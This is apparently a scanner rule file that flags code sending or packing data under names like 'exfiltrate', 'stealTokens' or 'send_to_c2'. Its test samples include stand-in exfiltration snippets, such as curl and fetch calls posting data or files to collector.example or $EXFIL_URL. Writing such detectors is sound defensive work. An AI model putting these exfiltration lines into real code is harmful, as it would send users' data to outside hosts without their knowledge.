import { call } from "../match.ts";
import { defineRule } from "../rule.ts";
import { LOOKUPS, SENDS } from "../vocabulary/network-calls.ts";
import { SHELL_SENDS } from "../vocabulary/shell-commands.ts";
import { callsItTheft } from "../vocabulary/telling-names.ts";

/** Make a request that is sent later. */
const REQUESTS = [
  ...["urllib.request.Request", "urllib2.Request", "requests.Request", "httpx.Request", "js.Request"],
  ...[
    "http.client.HTTPConnection",
    "http.client.HTTPSConnection",
    "js.WebSocket",
    "js.net.connect",
    "js.net.Socket().connect",
  ],
  ...["socket.socket().connect", "socket.create_connection"],
];
/** Pack what is to be taken away. */
const PACKERS = [
  "base64.b64encode",
  "gzip.compress",
  "zlib.compress",
  "json.dumps",
  "pickle.dumps",
  "shutil.make_archive",
  "js.btoa",
  "js.zlib.gzipSync",
  "js.JSON.stringify",
];

export default defineRule({
  id: "sent-as-loot",
  category: "data_exfiltration",
  severity: "high",
  confidence: "high",
  languages: ["python", "javascript", "shell", "go", "ruby"],
  title: "data is packed or sent by what its author calls theft",
  why: "Names are for whoever maintains the program: nobody calls his own upload an exfiltration.",
  fix: "Remove it.",
  references: ["ATT&CK T1041", "ATT&CK T1071"],
  match: call({
    of: [...new Set([...SENDS, ...LOOKUPS, ...SHELL_SENDS, ...REQUESTS, ...PACKERS])],
    where: callsItTheft,
  }),
  bad: [
    'import requests\ndef exfiltrate_data(d):\n    requests.post("https://collector.example/x", json=d)',
    "import requests\nrequests.get(C2_SERVER + path)",
    'import urllib.request\ndef upload(x):\n    stolen_data = x\n    urllib.request.urlopen("https://collector.example", stolen_data)',
    "import requests\ndef report(d):\n    # Send everything to the attacker's server\n    requests.post(url, json=d)",
    { "a.js": 'async function sync(d) {\n  await fetch(url, { method: "POST", body: d }); // exfiltrate the keys\n}' },
    "import json\nblob = json.dumps(stolen_credentials)",
    { "a.js": 'const sendToC2 = async (x) => { await fetch(base, { method: "POST", body: x }); };\nsendToC2(1);' },
    {
      "a.js":
        "class Reporter {\n  async exfilFiles(list) {\n    await axios.post(this.url, list);\n  }\n}\nconst axios = require('axios');",
    },
    {
      "a.js":
        'module.exports = {\n  exfiltrate: async (d) => {\n    await fetch(base, { method: "POST", body: d });\n  },\n};',
    },
    { "a.js": 'exports.stealTokens = function (d) {\n  return fetch(base, { method: "POST", body: d });\n};' },
    "import requests\nsend_to_c2 = lambda d: requests.post(URL, data=d)",
    { "run.sh": 'curl -d @/tmp/out "$EXFIL_URL"' },
    { "run.sh": 'steal_keys() {\n  curl -F f=@"$1" https://collector.example\n}\nsteal_keys x' },
    {
      "main.go":
        'package main\n\nimport "net/http"\n\nfunc exfiltrate(data string) {\n\thttp.Post("https://collector.example", "text/plain", read(data))\n}',
    },
  ],
  good: [
    'import requests\ndef detect_exfiltration(d):\n    requests.post("https://alerts.example/x", json=d)',
    "import requests\nrequests.get(EC2_HOST + path)",
    "import requests\ndef steal_work(queue):\n    requests.post(SCHEDULER, json=queue)",
    "import requests\ndef report(d):\n    # an attacker could steal the token if this were http\n    requests.post(url, json=d)",
    "import requests\ndef fetch(d):\n    # never send it to an attacker\n    requests.post(url, json=d)",
    "import requests\ndef harvest_data(d):\n    requests.post(url, json=d)",
    "import requests\ndef hit(attacker_id, loot):\n    requests.post(GAME_URL, json=loot)",
    "import requests\nstolen_task = requests.get(queue).json()",
    "import requests\nrequests.post(url, json={'c2': c2})",
    { "run.sh": 'curl -d @/tmp/out "$UPLOAD_URL"' },
    "def exfiltrate(d): return d",
  ],
});
